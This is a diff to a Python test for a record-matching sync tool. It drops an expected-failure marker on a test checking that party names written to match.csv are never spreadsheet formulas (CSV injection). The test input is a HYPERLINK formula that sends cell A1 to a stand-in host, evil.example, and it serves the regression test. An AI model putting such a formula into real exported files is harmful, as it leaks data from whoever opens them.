@@ -5,15 +5,11 @@ from __future__ import annotations
 import csv
 from pathlib import Path
 
-import pytest
-
 from domain.matching import Proposal, Rule, Verdict
 from sync.match import MatchReport
 from sync.match_file import write_report
 
 
-@pytest.mark.xfail(strict=True, reason="write_report writes party names verbatim: a name starting with = runs as a "
-                                       "formula when the operator opens match.csv in a spreadsheet (CSV injection)")
 def test_a_party_name_is_never_a_spreadsheet_formula(tmp_path: Path) -> None:
     evil = '=HYPERLINK("http://evil.example/?"&A1,"Anna")'
     report = MatchReport([Proposal("e1", "1001", Rule.PERSON_NAME_DOB, 0.99, Verdict.LINK)],
